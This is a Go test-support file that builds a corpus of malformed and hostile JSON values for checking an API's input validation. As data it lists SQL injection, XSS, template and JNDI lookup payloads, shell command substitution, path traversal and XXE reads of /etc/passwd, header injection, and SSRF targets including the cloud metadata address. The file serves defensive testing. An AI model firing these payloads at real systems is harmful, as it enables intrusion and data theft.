package hostile

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
)

// Mark is in every piece of markup of the corpus. No page may hold it unescaped: see Check.
const Mark = "x-hostile"

// Away is the host that requests name to be sent or quoted where it has no business. No answer may hold it unless it was an address
// of the caller's own choosing.
const Away = "elsewhere.invalid"

// theirs is the host of addresses that stand in values: what was kept may be shown again.
const theirs = "theirs.invalid"

// value is one hostile value of a field, as JSON text.
type value struct {
	name, json string
	// bad are the sorts of fields that must refuse it.
	bad []Sort
	// blank must be refused where a value is required.
	blank bool
	// shape is about the type and the encoding alone. Of these, broken is no JSON in UTF-8 at all, or nested too deeply: nobody may take
	// it, not even in a field that does not matter.
	shape, broken bool
}

// Lists of sorts.
var (
	all     = []Sort{Text, Lines, Amount, URL, Link, Word, List}
	oneLine = []Sort{Text, Amount, URL, Link, Word, List}
	single  = []Sort{Text, Lines, Amount, URL, Link, Word}
	formal  = []Sort{Amount, URL, Word, List} // everything but free text
	nothing []Sort
)

// values is the corpus of values, the same in the same order at each call.
func values() []value {
	return slices.Concat(types(), broken(), texts(), numbers(), addresses())
}

// types are values of every JSON type.
func types() []value {
	v := func(name, json string, bad []Sort) value { return value{name: name, json: json, bad: bad, shape: true} }
	return []value{
		{name: "null", json: "null", blank: true, shape: true},
		v("true", "true", all), v("false", "false", all),
		v("empty list", "[]", all), v("list of null", "[null]", all), v("list of lists", `[["a"]]`, all),
		v("list of an object", `[{}]`, all), v("list of its value", `["1"]`, single),
		v("object", "{}", all), v("object like an operator", `{"$gt":""}`, all), v("object with a number", `{"0":"a"}`, all),
	}
}

// broken are values that are no JSON, or none that can be told from another.
func broken() []value {
	v := func(name, json string, bad []Sort) value {
		return value{name: name, json: json, bad: bad, shape: true, broken: true}
	}
	return []value{
		v("lists 32 deep", strings.Repeat("[", 32)+strings.Repeat("]", 32), all),
		v("lists 10,000 deep", strings.Repeat("[", 10_000)+strings.Repeat("]", 10_000), all),
		v("lists left open", strings.Repeat("[", 1000), all),
		v("objects 40 deep", strings.Repeat(`{"a":`, 40)+"1"+strings.Repeat("}", 40), all),
		v("not JSON: undefined", "undefined", all), v("not JSON: NaN", "NaN", all), v("not JSON: Infinity", "-Infinity", all),
		v("not JSON: hexadecimal", "0x10", all), v("not JSON: leading zero", "012", all), v("not JSON: plus", "+1", all),
		v("not JSON: point first", ".5", all), v("not JSON: point last", "5.", all), v("not JSON: half an exponent", "1e", all),
		v("not JSON: single quotes", "'a'", all), v("not JSON: a comment", `"a"/**/`, all), v("not JSON: comma too many", `"a",`, all),
		v("not JSON: raw line break", "\"a\nb\"", all), v("not JSON: raw NUL", "\"a\x00b\"", all), v("not JSON: raw tab", "\"a\tb\"", all),
		v("not JSON: bad escape", `"\x41"`, all), v("not JSON: short escape", `"\u12"`, all),
		v("not UTF-8", "\"a\xff\xfeb\"", all), v("overlong UTF-8", "\"\xc0\xafa\"", all), v("surrogate in UTF-8", "\"\xed\xa0\x80\"", all),
		v("beyond Unicode", "\"\xf4\x90\x80\x80\"", all), v("cut UTF-8", "\"a\xe2\x82\"", all),
		v("lone high surrogate", `"a\ud800"`, all), v("lone low surrogate", `"\udc00a"`, all), v("surrogates the wrong way", `"\udc00\ud800"`, all),
	}
}

// texts are strings, most of them harmless to who keeps them and poison to who believes them.
func texts() []value {
	v := func(name, text string, bad []Sort) value { return value{name: name, json: quote(text), bad: bad} }
	blank := func(name, text string) value {
		return value{name: name, json: quote(text), blank: true, bad: []Sort{List}}
	}
	return []value{
		blank("empty text", ""), blank("spaces", "   "), blank("no-break spaces", "\u00a0\u2003\u3000"),
		blank("zero-width only", "\u200b\u200c\u200d\u2060\ufeff"), blank("soft hyphens only", "\u00ad\u00ad"),
		blank("marks of direction only", "\u200e\u200f\u061c"), blank("fillers only", "\u3164\uffa0\u115f\u2800"),
		blank("variation selectors only", "\ufe0f\ufe0e"), blank("tags only", "\U000e0041\U000e007f"),
		v("NUL inside", "a\x00b", all), v("NUL last", "a\x00", all), v("line feed", "a\nb", oneLine), v("carriage return", "a\rb", all),
		v("header injection", "a\r\nX-Injected: 1\r\n\r\n<"+Mark+">", oneLine), v("log forging", "a\nlevel=ERROR msg=forged", oneLine),
		v("escape sequence", "\x1b[2J\x1b]0;a\x07", all), v("backspaces", "a\b\b\b", all), v("delete", "a\x7f", all),
		v("C1 controls", "a\u0085b\u009b", all), v("bidi override", "a\u202egpj.exe", all), v("bidi isolate", "a\u2066b\u2069", all),
		v("bidi embedding", "\u202ba\u202c", all), v("right-to-left script", "رحیم الدین", formal),
		v("Bengali", "রহিম উদ্দিন", formal), v("emoji with joiners", "👩‍👩‍👧‍👦🇧🇩", formal), v("stacked marks", "Z"+strings.Repeat("\u0335\u0489", 20), formal),
		v("not normalised", "e\u0301é", formal), v("replacement character", "a\ufffdb", formal), v("noncharacter", "a\uffff", formal),
		v("byte order mark inside", "a\ufeffb", formal), v("line separator", "a\u2028b\u2029c", formal),
		v("longer than any name", strings.Repeat("a", 300), []Sort{Amount, URL, Word}), v("longer than any address", "https://a.example/"+strings.Repeat("a", 5000), single),
		v("100,000 characters", strings.Repeat("a", 100_000), single), v("100,000 wide characters", strings.Repeat("𝔸", 100_000/4), single),
		v("SQL", "' OR '1'='1", formal), v("SQL: drop", "'; drop table invoice; --", formal), v("SQL: union", "1 union select handle from credential", formal),
		v("LIKE pattern", "%", formal), v("LIKE pattern: any", "_%", formal), v("backslash", `\`, formal), v("quotes", `"'`+"`", formal),
		v("markup", "<"+Mark+" onload=alert(1)>", formal), v("markup in an attribute", `"><`+Mark+">", formal),
		v("markup in an attribute, single", `'><`+Mark+">", formal), v("end of a script", "</script><"+Mark+">", formal),
		v("end of a comment", "--><"+Mark+">", formal), v("entity", "&lt;"+Mark+"&gt;&#60;", formal),
		v("template", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}", formal), v("format", "%s%n%x%d", formal), v("formula", `=HYPERLINK("http://`+theirs+`")`, formal),
		v("lookup", "${jndi:ldap://"+theirs+"/a}", formal), v("shell", "$(id)`id`;id|id", formal), v("path", "../../../../etc/passwd", formal),
		v("JSON in text", `{"amount":1}`, formal), v("XML entity", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>`, formal),
		v("prototype", "__proto__", formal), v("null in text", "null", formal), v("undefined in text", "undefined", formal), v("true in text", "true", formal),
		v("nil id", "00000000-0000-0000-0000-000000000000", formal), v("greatest id", "ffffffff-ffff-ffff-ffff-ffffffffffff", formal),
	}
}

// numbers are figures as numbers and as texts.
func numbers() []value {
	amount := []Sort{Amount}
	var list []value
	for _, text := range []string{
		"0", "0.00", "-0", "-0.0", "-1", "-0.01", "0.001", "0.009", "12.345", "-9223372036854775808", "9223372036854775807", "9223372036854775808",
		"92233720368547758.07", "92233720368547758.08", "18446744073709551616", "1e400", "-1e400", "1e-400", "1e2147483648", "1e-2147483648",
		"1e999999999999999999999", "0e0", "0e999999999", strings.Repeat("9", 400), "0." + strings.Repeat("0", 400) + "1", "1." + strings.Repeat("1", 70_000),
	} {
		short := brief(text)
		list = append(list,
			value{name: "number " + short, json: text, bad: []Sort{Amount, URL, Word, List}},
			value{name: "text of the number " + short, json: quote(text), bad: amount})
	}
	for _, text := range []string{ // right or wrong as the door has it: no 5xx, and what it says it has done it has done
		"1", "0.01", "1.00", "1.0000", "1e2", "1E+2", "100.0e-1", "999999999.99", "1000000000", "999999999999", "10000000000000",
	} {
		list = append(list,
			value{name: "number " + text, json: text, bad: []Sort{URL, Word, List}},
			value{name: "text of the number " + text, json: quote(text), bad: []Sort{URL, Word, List}})
	}
	for _, text := range []string{"1,5", "1.234,50", "1,234.50", "1 000", " 1 ", "01", "1'000", "1_000"} {
		list = append(list, value{name: "text of the number " + text, json: quote(text), bad: []Sort{URL, Word, List}})
	}
	for _, text := range []string{
		"+1", "1.", ".5", "1..2", "1.2.3", "--1", "1-", "0x1p4", "0x10", "1e", "NaN", "Infinity", "-Infinity", "１２", "١٢", "১২", "Ⅷ", "½", "1½", "1\u00a0000", "৳100", "100 BDT", "$1", "1/2", "1%",
	} {
		list = append(list, value{name: "text of a number that is none: " + text, json: quote(text), bad: formal})
	}
	return list
}

// addresses are texts that stand where an address is wanted.
func addresses() []value {
	v := func(text string, bad []Sort) value {
		return value{name: "address " + brief(text), json: quote(text), bad: bad}
	}
	var list []value
	for _, text := range []string{
		"javascript:alert(1)", "JaVaScRiPt://a.example/%0aalert(1)", "data:text/html,<" + Mark + ">", "vbscript:a", "file:///etc/passwd",
		"ftp://a.example/", "gopher://a.example/", "//" + theirs + "/a", "/relative", "https:/a.example", "https:a.example", "https://", "https:///a",
		"http://user:pass@a.example/", "http://a.example@" + theirs + "/", "http://" + theirs + "\\@a.example/", "http://a.example\\." + theirs,
		"http://[::1", "http://[fe80::1%25eth0]/", "http://a.example:0/", "http://a.example:65536/", "http://a.example:x/", "http://a b.example/",
		"http://a.example/ a", "http://\"a.example/", "http://<" + Mark + ">/", "http://.../", "http://a.example/%zz", "http://%00/",
	} {
		list = append(list, v(text, formal))
	}
	for i := range 7 { // a scheme of its own is not a bare host
		list[i].bad = append(slices.Clone(formal), Link)
	}
	for _, text := range []string{ // the payer's browser may go there; whether it is called is decided when it is dialled
		"http://127.0.0.1/", "http://169.254.169.254/latest/meta-data/", "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://0/", "http://2130706433/",
		"http://localhost/", "https://a.example/?a=<" + Mark + ">", "https://a.example/?status=success&status=x#f", "https://xn--a.example/", "https://দোকান.example/",
	} {
		list = append(list, v(text, nothing))
	}
	return list
}

// refuses reports whether a field must refuse the value.
func (f Field) refuses(v value) bool {
	switch {
	case v.blank && f.Required:
		return true
	case f.Loose:
		return v.broken
	case f.Sort == List && !v.shape:
		return true // any text or number is no list
	}
	return slices.Contains(v.bad, f.Sort)
}

// quote is s as JSON text.
func quote(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(fmt.Sprintf("hostile: %q cannot be written as JSON: %v", s, err)) // no string of the corpus
	}
	return string(b)
}

// unquote is the text that JSON text means: a string's own, else itself.
func unquote(text string) string {
	var s string
	if json.Unmarshal([]byte(text), &s) == nil && strings.HasPrefix(text, `"`) {
		return s
	}
	return text
}

// unlist is the texts of a JSON list of texts.
func unlist(text string) ([]string, bool) {
	var list []string
	err := json.Unmarshal([]byte(text), &list)
	return list, err == nil && strings.HasPrefix(text, "[")
}
